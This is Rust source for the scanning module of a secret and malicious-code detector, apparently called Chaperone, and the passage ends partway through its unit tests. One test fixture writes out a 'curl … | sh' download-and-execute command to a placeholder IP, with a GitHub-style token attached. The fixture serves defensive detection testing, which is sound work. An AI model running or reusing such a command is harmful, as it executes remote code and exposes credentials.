//! Scanning bytes and paths.
//!
//! One Aho-Corasick pass (ASCII case-insensitive) over a file finds every rule keyword; only
//! the lines holding a keyword are searched with the regexes of the rules it belongs to.
//! A match counts when its secret is not a placeholder, reaches the rule's entropy, and the
//! line carries no `chaperone:allow` comment.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use aho_corasick::AhoCorasick;
use regex_automata::Input;
use zeroize::Zeroizing;

use crate::rules::{Category, Rule, RuleSet, Severity, entropy, is_placeholder};
use crate::sensitive::{Kind, detect};

/// The inline comment that accepts a finding on its line.
pub const ALLOW: &[u8] = b"chaperone:allow";

/// One finding. The secret itself is never kept: only a redacted form.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Finding {
    /// File (as given, or inside a directory given).
    pub path: String,
    /// 1-based line.
    pub line: usize,
    /// 1-based byte column of the secret.
    pub column: usize,
    /// Rule id.
    pub rule: String,
    /// Rule description.
    pub description: String,
    /// Severity.
    pub severity: Severity,
    /// The secret, redacted.
    pub redacted: String,
    /// The line with the secret redacted, shortened.
    pub context: String,
    /// Stable id of the finding, for baselines (see [`fingerprint`]).
    pub fingerprint: String,
    /// Where the value ends in its line (bytes), to redact it in the other findings'
    /// context too.
    #[serde(skip)]
    end: usize,
    /// Whether the value is redacted in contexts (secrets and sensitive data; not code).
    #[serde(skip)]
    mask: bool,
    /// For a value the caller registered with [`Scanner::with_known_values`]: its label.
    /// Never serialised: the caller decides who may learn which value it was.
    #[serde(skip)]
    pub known: Option<String>,
}

/// The rule id of values registered with [`Scanner::with_known_values`].
pub const KNOWN_VALUE: &str = "known-value";

/// What a scan looks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Search {
    /// Every rule, sensitive data and vault values.
    Everything,
    /// Vault values alone: what an archive past its findings limit is still searched for.
    VaultValues,
}

/// The rule id of the finding that closes a file's list when it holds more findings than
/// [`Scanner::max_findings_per_file`], or an upload's when it reached
/// [`Scanner::max_findings`].
pub const TOO_MANY: &str = "too-many-findings";

/// The finding that says the scan of `path` stopped after `limit` findings.
pub(crate) fn too_many(path: &str, limit: usize) -> Finding {
    Finding {
        path: path.to_owned(),
        line: 1,
        column: 1,
        rule: TOO_MANY.to_owned(),
        description: format!(
            "More than {limit} findings: past them, the content was searched only for values \
             stored in the vault, and no lines are shown; review the whole content"
        ),
        severity: Severity::High,
        redacted: String::new(),
        context: String::new(),
        fingerprint: fingerprint(TOO_MANY, path, b""),
        end: 0,
        mask: false,
        known: None,
    }
}

/// What a scan of paths saw.
#[derive(Clone, Debug, Default, serde::Serialize)]
pub struct Report {
    /// Findings, by path and line.
    pub findings: Vec<Finding>,
    /// Files read and searched.
    pub files_scanned: u64,
    /// Bytes searched.
    pub bytes_scanned: u64,
    /// Files skipped as binary.
    pub skipped_binary: u64,
    /// Files skipped for their size.
    pub skipped_large: u64,
    /// Whether the scan reached [`Scanner::deadline`] and stopped: what it had not
    /// searched by then (the rest of a file, the later members of an archive) is not in
    /// the findings.
    pub out_of_time: bool,
}

impl Report {
    /// Adds `other`'s findings and counts, keeping findings ordered by path and line.
    pub fn merge(&mut self, other: Report) {
        self.findings.extend(other.findings);
        self.files_scanned += other.files_scanned;
        self.bytes_scanned += other.bytes_scanned;
        self.skipped_binary += other.skipped_binary;
        self.skipped_large += other.skipped_large;
        self.out_of_time |= other.out_of_time;
        self.findings.sort_by(|a, b| {
            (&a.path, a.line, a.column, &a.rule).cmp(&(&b.path, b.line, b.column, &b.rule))
        });
    }
}

/// Why a scan could not run.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ScanError {
    /// A path could not be read.
    #[error("cannot read {path}: {source}")]
    Io {
        /// The path.
        path: PathBuf,
        /// The OS error.
        #[source]
        source: std::io::Error,
    },
}

/// A compiled scanner.
#[derive(Debug)]
pub struct Scanner {
    rules: RuleSet,
    /// Values to find (a vault's secrets), verbatim and encoded: the automaton's patterns,
    /// and for each pattern the label of the value it comes from and how it was encoded.
    known: Option<(AhoCorasick, Vec<(String, Encoding)>)>,
    keywords: AhoCorasick,
    /// For each keyword, the rules it belongs to.
    keyword_rules: Vec<Vec<usize>>,
    /// Files larger than this are skipped.
    pub max_file_size: u64,
    /// Findings listed for one file at most (see [`TOO_MANY`]). Security decision: a file
    /// made of matches (a million social security numbers on one line) would otherwise
    /// make the scanner hold, and the server store, a finding for each.
    pub max_findings_per_file: usize,
    /// Findings listed for one upload or archive at most, every member together; the scan
    /// stops there (see [`TOO_MANY`]).
    pub max_findings: usize,
    /// Bytes one archive may expand to at most; past it the archive stops being read and
    /// the rest counts as skipped.
    pub max_expanded: u64,
    /// Whether a line holding `chaperone:allow` is left out of the rules' search. Security
    /// decision: the comment is for a team's own code (the CLI); whoever submits a
    /// deliverable writes its lines too, so the server scans uploads with it off.
    pub honour_allow: bool,
    /// When the scan stops, if ever. Security decision: an upload is hostile input, and
    /// however bounded each regex search is, lines crafted to hold many keywords and
    /// near-matches make the scanner work far longer per byte than real files do. The server
    /// sets a deadline, so that one upload cannot hold the scanner (and every upload queued
    /// behind it) for longer; past it the scan stops and says so in
    /// [`Report::out_of_time`], which the server turns into a finding rather than taking the
    /// rest for clean.
    pub deadline: Option<std::time::Instant>,
}

impl Scanner {
    /// A scanner for `rules`, skipping files over 10 MiB, listing 1,000 findings per file
    /// and per archive or upload at most.
    pub fn new(rules: RuleSet) -> Self {
        let mut words: Vec<String> = Vec::new();
        let mut keyword_rules: Vec<Vec<usize>> = Vec::new();
        for (index, rule) in rules.rules().iter().enumerate() {
            for keyword in &rule.spec.keywords {
                match words.iter().position(|w| w == keyword) {
                    Some(at) => keyword_rules[at].push(index),
                    None => {
                        words.push(keyword.clone());
                        keyword_rules.push(vec![index]);
                    }
                }
            }
        }
        let keywords = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(&words)
            .expect("literal keywords always build");
        Self {
            rules,
            known: None,
            keywords,
            keyword_rules,
            max_file_size: 10 * 1024 * 1024,
            max_findings_per_file: 1_000,
            max_findings: 1_000,
            max_expanded: crate::archive::MAX_EXPANDED,
            honour_allow: true,
            deadline: None,
        }
    }

    /// Whether the deadline has passed. Time only moves on, so a scan that stopped early
    /// for it is also out of time when its caller asks afterwards.
    pub(crate) fn out_of_time(&self) -> bool {
        self.deadline
            .is_some_and(|deadline| std::time::Instant::now() >= deadline)
    }

    /// Also finds these values (values shorter than 8 bytes are ignored), verbatim and
    /// encoded (see [`Encoding`]), reporting rule `known-value` with the value's label in
    /// [`Finding::known`]. The values and their encodings live only in this scanner's
    /// memory; a finding's fingerprint covers the label, never the value, and an allow
    /// comment does not hide them.
    pub fn with_known_values(mut self, values: &[(&[u8], String)]) -> Self {
        let mut patterns: Vec<(Zeroizing<Vec<u8>>, &String, Encoding)> = values
            .iter()
            .filter(|(v, _)| v.len() >= 8)
            .flat_map(|(value, label)| {
                encodings(value)
                    .into_iter()
                    .map(move |(pattern, encoding)| (pattern, label, encoding))
            })
            .collect();
        // A value that is another one's encoding, or two encodings that coincide (URL-safe
        // and standard base64 without `+` or `/`), is one pattern: the first (the sort is
        // stable).
        patterns.sort_by(|a, b| a.0.cmp(&b.0));
        patterns.dedup_by(|later, first| later.0 == first.0);
        if patterns.is_empty() {
            self.known = None;
            return self;
        }
        let automaton = AhoCorasick::builder()
            .match_kind(aho_corasick::MatchKind::LeftmostLongest)
            .build(patterns.iter().map(|(pattern, _, _)| pattern.as_slice()))
            .expect("literal values always build");
        let labels = patterns
            .into_iter()
            .map(|(_, label, encoding)| (label.clone(), encoding))
            .collect();
        self.known = Some((automaton, labels));
        self
    }

    /// The rules in use.
    pub fn rules(&self) -> &RuleSet {
        &self.rules
    }

    /// Findings in `data`, named `path`: at most [`Scanner::max_findings_per_file`], then one
    /// [`TOO_MANY`] finding that says the file holds more; and vault values, as many again
    /// at most.
    ///
    /// Security decision: vault values and the other findings are limited apart. Padding a
    /// file with other findings cannot push a vault value out of the list, and, the other
    /// way round, how often a vault value occurs changes nothing of the other findings
    /// listed, nor whether [`TOO_MANY`] is: a submitter who may not see where a vault value
    /// is must not tell guesses apart by repeating each a different number of times among
    /// findings of their own and counting what is listed.
    pub fn scan_bytes(&self, path: &str, data: &[u8]) -> Vec<Finding> {
        let limit = self.max_findings_per_file;
        self.scan_limited(path, data, limit, limit, Search::Everything)
    }

    /// [`Scanner::scan_bytes`] with `limit` findings at most and `known_limit` vault values,
    /// looking for what `search` says. Vault values past `known_limit` are not listed and
    /// nothing of the file's lines is shown then (the values not listed are not masked).
    pub(crate) fn scan_limited(
        &self,
        path: &str,
        data: &[u8],
        limit: usize,
        known_limit: usize,
        search: Search,
    ) -> Vec<Finding> {
        let line_starts: Vec<usize> = std::iter::once(0).chain(memchr_lines(data)).collect();
        let line_end = |line: usize| {
            line_starts
                .get(line + 1)
                .map_or(data.len(), |&next| next - 1)
        };
        let mut findings = Vec::new();
        let mut known_found = Vec::new();
        let mut known_more = false;
        // Spans to redact that belong to no finding of their own: the later lines of a vault
        // value that runs over several lines (a PEM key).
        let mut continued: Vec<(usize, Mask)> = Vec::new();
        if let Some((automaton, labels)) = &self.known {
            for hit in automaton.find_iter(data) {
                if known_found.len() >= known_limit {
                    known_more = true;
                    break;
                }
                let (label, encoding) = &labels[hit.pattern().as_usize()];
                let (from, to) = encoding.hidden(data, hit.start(), hit.end());
                let line = line_starts.partition_point(|&s| s <= from) - 1;
                let start = from - line_starts[line];
                let mut later = line + 1;
                while later < line_starts.len() && line_starts[later] < to {
                    let end = to.min(line_end(later)) - line_starts[later];
                    continued.push((
                        later + 1,
                        Mask {
                            start: 0,
                            end,
                            known: true,
                        },
                    ));
                    later += 1;
                }
                known_found.push(Finding {
                    path: path.to_owned(),
                    line: line + 1,
                    column: start + 1,
                    rule: KNOWN_VALUE.to_owned(),
                    description: encoding.description().to_owned(),
                    severity: Severity::Critical,
                    redacted: redact(&data[from..to]),
                    context: String::new(),
                    fingerprint: fingerprint(KNOWN_VALUE, path, label.as_bytes()),
                    end: to.min(line_end(line)) - line_starts[line],
                    mask: true,
                    known: Some(label.clone()),
                });
            }
        }
        // (line index, rule index) pairs to search.
        let mut candidates: BTreeSet<(usize, usize)> = BTreeSet::new();
        let everything = search == Search::Everything;
        for hit in self
            .keywords
            .find_overlapping_iter(data)
            .take_while(|_| everything)
        {
            let line = line_starts.partition_point(|&s| s <= hit.start()) - 1;
            for &rule in &self.keyword_rules[hit.pattern().as_usize()] {
                if self.rules.rules()[rule].spec.applies_to(path) {
                    candidates.insert((line, rule));
                }
            }
        }
        for (line, rule) in candidates {
            let Some(room) = (limit + 1).checked_sub(findings.len()).filter(|&n| n > 0) else {
                break;
            };
            if self.out_of_time() {
                break;
            }
            let text = &data[line_starts[line]..line_end(line)];
            if self.honour_allow && contains(text, ALLOW) {
                continue;
            }
            findings.extend(self.search_line(
                path,
                line + 1,
                text,
                &self.rules.rules()[rule],
                room,
            ));
        }
        // Sensitive data has no keyword to look for: every line is checked, cheaply.
        let kinds: Vec<Kind> = Kind::ALL
            .into_iter()
            .filter(|k| everything && !self.rules.disabled.iter().any(|d| d == k.id()))
            .collect();
        if !kinds.is_empty() {
            'lines: for (line, &start) in line_starts.iter().enumerate() {
                // A clock read per line would cost more than most lines' checks.
                if line.is_multiple_of(1024) && self.out_of_time() {
                    break;
                }
                let text = &data[start..line_end(line)];
                if self.honour_allow && contains(text, ALLOW) {
                    continue;
                }
                for found in detect(text) {
                    if findings.len() > limit {
                        break 'lines;
                    }
                    if !kinds.contains(&found.kind) {
                        continue;
                    }
                    let value = &text[found.start..found.end];
                    findings.push(Finding {
                        path: path.to_owned(),
                        line: line + 1,
                        column: found.start + 1,
                        rule: found.kind.id().to_owned(),
                        description: found.kind.description().to_owned(),
                        severity: Severity::High,
                        redacted: redact(value),
                        context: String::new(),
                        fingerprint: fingerprint(found.kind.id(), path, value),
                        end: found.end,
                        mask: true,
                        known: None,
                    });
                }
            }
        }
        let more = findings.len() > limit;
        // A search for vault values alone did not look at the lines for anything else, one
        // that ran out of time may have stopped anywhere, and vault values past their limit
        // are not masked.
        let hide_lines = more || known_more || !everything || self.out_of_time();
        findings.truncate(limit);
        findings.append(&mut known_found);
        findings.sort_by(|a, b| (a.line, a.column, &a.rule).cmp(&(b.line, b.column, &b.rule)));
        findings.dedup_by(|a, b| a.line == b.line && a.column == b.column && a.rule == b.rule);
        // Each context shows its line with every value found on it redacted, not only its
        // own.
        let mut spans: Vec<(usize, Mask)> = findings
            .iter()
            .filter(|f| f.mask)
            .map(|f| {
                let mask = Mask {
                    start: f.column - 1,
                    end: f.end,
                    known: f.known.is_some(),
                };
                (f.line, mask)
            })
            .chain(continued)
            .collect();
        // A span that overlaps a vault value is redacted as one (its length only): whichever
        // span a redaction starts from, no character of the vault value is shown.
        let known: Vec<(usize, Mask)> = spans.iter().filter(|(_, m)| m.known).copied().collect();
        for (line, mask) in &mut spans {
            if !mask.known {
                mask.known = known
                    .iter()
                    .any(|(l, k)| l == line && k.start < mask.end && k.end > mask.start);
            }
        }
        spans.sort_unstable_by_key(|&(line, m)| (line, m.start, m.end, !m.known));
        for finding in &mut findings {
            let start = line_starts[finding.line - 1];
            let end = line_end(finding.line - 1);
            // Vault values past their limit are not masked, and any match could be one of
            // them: nothing of it is shown but its length, nor hashed into a fingerprint.
            if known_more && finding.known.is_none() {
                finding.redacted = redact(&data[start + finding.column - 1..start + finding.end]);
                finding.fingerprint = fingerprint(&finding.rule, path, KNOWN_VALUE.as_bytes());
                continue;
            }
            let first = spans.partition_point(|&(line, _)| line < finding.line);
            let on_line: Vec<Mask> = spans[first..]
                .iter()
                .take_while(|(line, _)| *line == finding.line)
                .map(|&(_, mask)| mask)
                .collect();
            // A finding of a rule whose match overlaps a vault value is not fingerprinted
            // from the match: a fast hash of a vault value (or of code around one) would
            // let whoever reads the finding test guesses of it offline. A secret it found
            // is shown as the vault value is: by its length only.
            if finding.known.is_none()
                && on_line
                    .iter()
                    .any(|m| m.known && m.start < finding.end && m.end > finding.column - 1)
            {
                finding.fingerprint = fingerprint(&finding.rule, path, KNOWN_VALUE.as_bytes());
                if finding.mask {
                    finding.redacted =
                        redact(&data[start + finding.column - 1..start + finding.end]);
                }
            }
            if hide_lines {
                // The scan stopped before the end of the file, or looked for vault values
                // only, so a line shown here could hold a value it never reached: nothing
                // of the lines is shown.
                if !finding.mask {
                    finding.redacted =
                        redact(&data[start + finding.column - 1..start + finding.end]);
                }
                continue;
            }
            finding.context = context(&data[start..end], finding.column - 1, finding.end, &on_line);
            // Code is shown, but never a secret on the same line.
            if !finding.mask {
                finding.redacted =
                    shorten_masked(&data[start..end], finding.column - 1, finding.end, &on_line);
            }
        }
        if more {
            findings.push(too_many(path, limit));
        }
        findings
    }

    /// The findings of `rule` on one line, `room` at most.
    fn search_line(
        &self,
        path: &str,
        line: usize,
        text: &[u8],
        rule: &Rule,
        room: usize,
    ) -> Vec<Finding> {
        let mut out = Vec::new();
        let mut caps = rule.regex.create_captures();
        let mut at = 0;
        let mut searches = 0u32;
        while at <= text.len() && out.len() < room {
            searches = searches.wrapping_add(1);
            if searches.is_multiple_of(64) && self.out_of_time() {
                break;
            }
            rule.regex
                .search_captures(&Input::new(text).range(at..), &mut caps);
            let Some(whole) = caps.get_match() else { break };
            at = if whole.end() > whole.start() {
                whole.end()
            } else {
                whole.end() + 1
            };
            let Some(secret) = caps.get_group(rule.spec.secret_group) else {
                continue;
            };
            let value = &text[secret.start..secret.end];
            let matched = &text[whole.start()..whole.end()];
            let code = rule.spec.category == Category::Malicious;
            // Install instructions in documentation (`curl … | sh` in a README) are shown to
            // people, not run by a build: still reported, at low severity.
            let documented = code && is_documentation(path);
            let has_keyword = rule
                .spec
                .keywords
                .iter()
                .any(|k| contains(&matched.to_ascii_lowercase(), k.as_bytes()));
            if value.is_empty()
                || !has_keyword
                || (!code && is_placeholder(value))
                || rule.spec.entropy.is_some_and(|min| entropy(value) < min)
            {
                continue;
            }
            out.push(Finding {
                path: path.to_owned(),
                line,
                column: secret.start + 1,
                rule: rule.spec.id.clone(),
                description: if documented {
                    format!(
                        "{} (in documentation: check the instructions are meant)",
                        rule.spec.description
                    )
                } else {
                    rule.spec.description.clone()
                },
                severity: if documented {
                    Severity::Low
                } else {
                    rule.spec.severity
                },
                redacted: if code { shorten(value) } else { redact(value) },
                context: String::new(),
                fingerprint: fingerprint(&rule.spec.id, path, value),
                end: secret.end,
                mask: !code,
                known: None,
            });
        }
        out
    }

    /// Scans files and directories (recursively, hidden files included, `.git` directories
    /// and symbolic links not followed), skipping binary and oversized files.
    pub fn scan_paths(&self, paths: &[PathBuf]) -> Result<Report, ScanError> {
        self.scan_paths_with(paths, &|_| {})
    }

    /// Like [`Scanner::scan_paths`], on every core, calling `progress` with the bytes of
    /// each file (or archive) as it is done. Files are read one at a time per thread, so
    /// memory stays bounded by the per-file limit times the number of threads.
    pub fn scan_paths_with(
        &self,
        paths: &[PathBuf],
        progress: &(dyn Fn(u64) + Sync),
    ) -> Result<Report, ScanError> {
        let files = walk(paths)?;
        let threads = std::thread::available_parallelism()
            .map_or(1, std::num::NonZero::get)
            .min(files.len().max(1));
        let next = std::sync::atomic::AtomicUsize::new(0);
        let results: Vec<Result<Report, ScanError>> = std::thread::scope(|scope| {
            let workers: Vec<_> = (0..threads)
                .map(|_| {
                    scope.spawn(|| {
                        let mut report = Report::default();
                        loop {
                            let i = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                            let Some((path, size)) = files.get(i) else {
                                break;
                            };
                            self.scan_file(path, *size, &mut report)?;
                            progress(*size);
                        }
                        Ok(report)
                    })
                })
                .collect();
            workers
                .into_iter()
                .map(|w| w.join().expect("a scan thread panicked"))
                .collect()
        });
        let mut report = Report::default();
        for part in results {
            report.merge(part?);
        }
        Ok(report)
    }

    fn scan_file(&self, path: &Path, size: u64, report: &mut Report) -> Result<(), ScanError> {
        let io = |source| ScanError::Io {
            path: path.to_path_buf(),
            source,
        };
        if let Some(kind) = crate::archive::Kind::of(path) {
            return self.scan_archive(path, kind, report).map_err(io);
        }
        if size > self.max_file_size {
            report.skipped_large += 1;
            return Ok(());
        }
        let data = std::fs::read(path).map_err(io)?;
        if is_binary(&data) {
            report.skipped_binary += 1;
            return Ok(());
        }
        report.files_scanned += 1;
        report.bytes_scanned += data.len() as u64;
        report
            .findings
            .extend(self.scan_bytes(&display(path), &data));
        report.out_of_time |= self.out_of_time();
        Ok(())
    }
}

/// The files under `paths` with their sizes, in order (directories recursively, hidden
/// files included, `.git` directories and symbolic links not followed).
fn walk(paths: &[PathBuf]) -> Result<Vec<(PathBuf, u64)>, ScanError> {
    let mut files = Vec::new();
    let mut stack: Vec<PathBuf> = paths.to_vec();
    stack.reverse();
    while let Some(path) = stack.pop() {
        let io = |source| ScanError::Io {
            path: path.clone(),
            source,
        };
        let meta = std::fs::symlink_metadata(&path).map_err(io)?;
        if meta.is_dir() {
            if path.file_name().is_some_and(|n| n == ".git") {
                continue;
            }
            let mut entries: Vec<PathBuf> = std::fs::read_dir(&path)
                .map_err(io)?
                .map(|e| e.map(|e| e.path()))
                .collect::<Result<_, _>>()
                .map_err(io)?;
            entries.sort();
            entries.reverse();
            stack.extend(entries);
        } else if meta.is_file() {
            files.push((path, meta.len()));
        }
    }
    Ok(files)
}

fn display(path: &Path) -> String {
    path.to_string_lossy().into_owned()
}

/// Binary by content: a NUL byte in the first 8 KiB, as git decides.
pub fn is_binary(data: &[u8]) -> bool {
    data[..data.len().min(8192)].contains(&0)
}

fn memchr_lines(data: &[u8]) -> impl Iterator<Item = usize> + '_ {
    data.iter()
        .enumerate()
        .filter(|&(_, &b)| b == b'\n')
        .map(|(i, _)| i + 1)
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
}

/// How a vault value was written where it was found. Security decision: a value copied out
/// base64- or hex-encoded (a Kubernetes secret manifest, a configuration blob, a test
/// fixture) is as leaked as the value itself, and encoding it is the first thing anyone
/// hiding one from a scanner tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Encoding {
    Verbatim,
    Base64,
    Hex,
    /// Percent-encoded, as in a URL or a connection string (`p%40ss` for `p@ss`).
    Percent,
}

impl Encoding {
    /// What to hide of a match at `start..end` of `data`: for base64, also the characters
    /// of the groups the value shares with the bytes around it (up to three at either end),
    /// since each carries some of the value's bits.
    fn hidden(self, data: &[u8], start: usize, end: usize) -> (usize, usize) {
        if self != Encoding::Base64 {
            return (start, end);
        }
        let base64 = |c: &&u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_');
        let before = data[..start]
            .iter()
            .rev()
            .take(3)
            .take_while(base64)
            .count();
        let after = data[end..].iter().take(3).take_while(base64).count();
        (start - before, end + after)
    }

    fn description(self) -> &'static str {
        match self {
            Encoding::Verbatim => "A value stored in Chaperone's vault",
            Encoding::Base64 => "A value stored in Chaperone's vault, base64-encoded",
            Encoding::Hex => "A value stored in Chaperone's vault, hex-encoded",
            Encoding::Percent => "A value stored in Chaperone's vault, percent-encoded",
        }
    }
}

/// The texts that hold all of `value`, encoded as the scanner also finds vault values:
/// itself; its hex digits in lower and upper case; and its percent-encoding (every byte but
/// RFC 3986's unreserved ones, with upper and lower hex digits), when that differs. For code
/// that must tell whether an old value lives on inside a new one (a rotation). Base64 is left
/// out: inside a longer base64 text a value shares its end groups with the bytes around it,
/// so its patterns leave up to two bytes at either end out, and would also match a value
/// that only shares the middle. Nothing for an empty value.
pub fn whole_value_forms(value: &[u8]) -> Vec<Zeroizing<Vec<u8>>> {
    if value.is_empty() {
        return Vec::new();
    }
    whole_forms(value)
        .into_iter()
        .map(|(form, _)| form)
        .collect()
}

fn whole_forms(value: &[u8]) -> Vec<(Zeroizing<Vec<u8>>, Encoding)> {
    let hex = Zeroizing::new(hex::encode(value).into_bytes());
    let mut out = vec![
        (Zeroizing::new(value.to_vec()), Encoding::Verbatim),
        (Zeroizing::new(hex.to_ascii_uppercase()), Encoding::Hex),
        (hex, Encoding::Hex),
    ];
    let unreserved = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~');
    if !value.iter().all(|&b| unreserved(b)) {
        for digits in [b"0123456789ABCDEF", b"0123456789abcdef"] {
            let mut percent = Zeroizing::new(Vec::with_capacity(value.len() * 3));
            for &b in value {
                if unreserved(b) {
                    percent.push(b);
                } else {
                    percent.extend([
                        b'%',
                        digits[usize::from(b >> 4)],
                        digits[usize::from(b & 15)],
                    ]);
                }
            }
            out.push((percent, Encoding::Percent));
        }
    }
    out
}

/// The patterns that find `value` (at least 8 bytes): its [`whole_value_forms`], and its
/// base64, in the standard and the URL-safe alphabet, for each of the three places in a
/// 3-byte group the value can start at inside a longer encoded text. The characters that
/// also depend on the bytes around the value (a group it shares with them, at either end)
/// are left out, so that the pattern is found wherever the value sits: each covers all of
/// the value but at most two bytes at either end, in 8 characters at least.
fn encodings(value: &[u8]) -> Vec<(Zeroizing<Vec<u8>>, Encoding)> {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let mut out = whole_forms(value);
    for skip in 0..3 {
        let whole = (value.len() - skip) / 3 * 3;
        let part = &value[skip..skip + whole];
        for engine in [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD] {
            out.push((
                Zeroizing::new(engine.encode(part).into_bytes()),
                Encoding::Base64,
            ));
        }
    }
    out
}

/// A secret redacted to its length only.
///
/// Security decision: findings are read by people who need not be able to read the
/// secret (reviewers, the vendor's owner), and end up in baselines and SARIF uploads. The
/// finding's file, line and column lead whoever holds the secret to it; its first characters
/// would narrow a guess of a password-like value (`Summ…` of `Summer2024!`), and a provider's
/// fixed prefix (`AKIA`, `ghp_`) is named by the rule anyway.
pub fn redact(secret: &[u8]) -> String {
    format!("****({} chars)", secret.len())
}

/// Whether `path` names documentation (Markdown, reStructuredText, AsciiDoc, plain text).
fn is_documentation(path: &str) -> bool {
    let name = path
        .rsplit(['/', '!', ':'])
        .next()
        .unwrap_or(path)
        .to_ascii_lowercase();
    [".md", ".markdown", ".rst", ".adoc", ".txt"]
        .iter()
        .any(|ext| name.ends_with(ext))
}

/// Matched code as a finding shows it: at most 120 characters.
fn shorten(code: &[u8]) -> String {
    let text = String::from_utf8_lossy(code);
    let mut out: String = text.chars().take(120).collect();
    if text.chars().count() > 120 {
        out.push('…');
    }
    out
}

/// A span of a line to redact ([`redact`]): a secret found there, or a value from the vault
/// (`known`, which wins where spans overlap).
#[derive(Clone, Copy, Debug)]
struct Mask {
    start: usize,
    end: usize,
    known: bool,
}

/// `start..end` of `line` shortened, with any secret spans in it redacted.
fn shorten_masked(line: &[u8], start: usize, end: usize, secrets: &[Mask]) -> String {
    let inside: Vec<Mask> = secrets
        .iter()
        .filter(|m| m.start < end && m.end > start)
        .map(|&m| Mask {
            start: m.start.max(start) - start,
            end: m.end.min(end) - start,
            known: m.known,
        })
        .collect();
    if inside.is_empty() {
        return shorten(&line[start..end]);
    }
    let masked = context(&line[start..end], 0, end - start, &inside);
    masked.chars().take(120).collect()
}

/// Up to 60 bytes either side of `start..end` in `line`, with every span in `redacted`
/// (which includes `start..end`) shown redacted.
fn context(line: &[u8], start: usize, end: usize, redacted: &[Mask]) -> String {
    let mut spans: Vec<Mask> = redacted.to_vec();
    spans.sort_unstable_by_key(|m| (m.start, m.end, !m.known));
    let from = start.saturating_sub(60);
    let to = (end + 60).min(line.len());
    let mut out = String::new();
    if from > 0 {
        out.push('…');
    }
    let mut at = from;
    for Mask {
        start: a,
        end: b,
        known: _,
    } in spans
    {
        if b <= at || a >= to {
            continue;
        }
        if a > at {
            out.push_str(&String::from_utf8_lossy(&line[at..a]));
        }
        // A span cut by the window is still redacted whole.
        out.push_str(&redact(&line[a..b]));
        at = b;
    }
    if at < to {
        out.push_str(&String::from_utf8_lossy(&line[at..to]));
    }
    if to < line.len() {
        out.push('…');
    }
    out.trim().to_owned()
}

/// FNV-1a 64 of the rule, the path and the secret: stable across runs for baselines. It is
/// no secret's keeper: anyone holding it can check a guess of a weak value offline, which
/// is why the server keeps none and scanner.md says to keep baselines private.
pub fn fingerprint(rule: &str, path: &str, secret: &[u8]) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for part in [rule.as_bytes(), path.as_bytes(), secret] {
        for &b in part.iter().chain([0u8].iter()) {
            hash ^= u64::from(b);
            hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
    format!("{hash:016x}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scanner() -> Scanner {
        Scanner::new(RuleSet::builtin().unwrap())
    }

    #[test]
    fn every_rule_finds_its_examples_and_not_its_counter_examples() {
        let scanner = scanner();
        let mut failures = Vec::new();
        for rule in scanner.rules.rules() {
            assert!(
                !rule.spec.examples.is_empty(),
                "{} has no examples",
                rule.spec.id
            );
            // A rule for certain files is tried on the first of them, and must stay quiet
            // elsewhere.
            let path = rule.spec.paths.first().map_or("x", String::as_str);
            for example in &rule.spec.examples {
                let found = scanner.scan_bytes(path, example.as_bytes());
                if path != "x"
                    && scanner
                        .scan_bytes("README.md", example.as_bytes())
                        .iter()
                        .any(|f| f.rule == rule.spec.id)
                {
                    failures.push(format!("{}: fired outside {path}", rule.spec.id));
                }
                if !found.iter().any(|f| f.rule == rule.spec.id) {
                    failures.push(format!("{}: missed {example:?}", rule.spec.id));
                }
            }
            for counter in &rule.spec.counter_examples {
                let found = scanner.scan_bytes(path, counter.as_bytes());
                if found.iter().any(|f| f.rule == rule.spec.id) {
                    failures.push(format!("{}: flagged {counter:?}", rule.spec.id));
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        let secrets = scanner
            .rules
            .rules()
            .iter()
            .filter(|r| r.spec.category == Category::Secret)
            .count();
        assert!(secrets >= 150, "{secrets} credential rules");
    }

    #[test]
    fn malicious_code_is_shown_but_secrets_beside_it_are_not() {
        let line = b"curl -H 'Authorization: Bearer ghp_R2x9bQ7mVt4Lk8Zp1Ws6Yc3Nd5Fh0Jg2Ua7E' https://203.0.113.9/x | sh\n";
        let found = scanner().scan_bytes("deploy.sh", line);
        let code = found
            .iter()
            .find(|f| f.rule == "download-and-execute-shell")
            .expect("the download-and-execute is found");
        assert_eq!(code.severity, Severity::Critical);
        assert!(code.redacted.starts_with("curl -H"), "{}", code.redacted);
        assert!(found.iter().any(|f| f.rule.starts_with("github")));
        for f in &found {
            assert!(
                !f.redacted.contains("R2x9bQ7mVt4Lk8Zp1Ws6"),
                "{}",
                f.redacted
            );
            assert!(!f.context.contains("R2x9bQ7mVt4Lk8Zp1Ws6"), "{}", f.context);
        }
    }

    #[test]
    fn known_values_are_found_even_when_allowed_and_never_fingerprinted() {
        let value: &[u8] = b"Vault-Secret-Zq81-Lm02";
        let scanner = scanner().with_known_values(&[
            (value, "prod/db#password".to_owned()),
            (b"short", "ignored#x".to_owned()),
        ]);
        let found = scanner.scan_bytes(
            "app.env",
            b"X=1\nDB=Vault-Secret-Zq81-Lm02 # chaperone:allow\nshort\n",
        );
        let known: Vec<&Finding> = found.iter().filter(|f| f.rule == KNOWN_VALUE).collect();
        assert_eq!(known.len(), 1);
        assert_eq!((known[0].line, known[0].column), (2, 4));
        assert_eq!(known[0].known.as_deref(), Some("prod/db#password"));
        assert_eq!(
            known[0].fingerprint,
            fingerprint(KNOWN_VALUE, "app.env", b"prod/db#password"),
            "the fingerprint covers the label, not the value"
        );
        assert!(!known[0].context.contains("Zq81-Lm02"));
        let json = serde_json::to_string(&known[0]).unwrap();
        assert!(
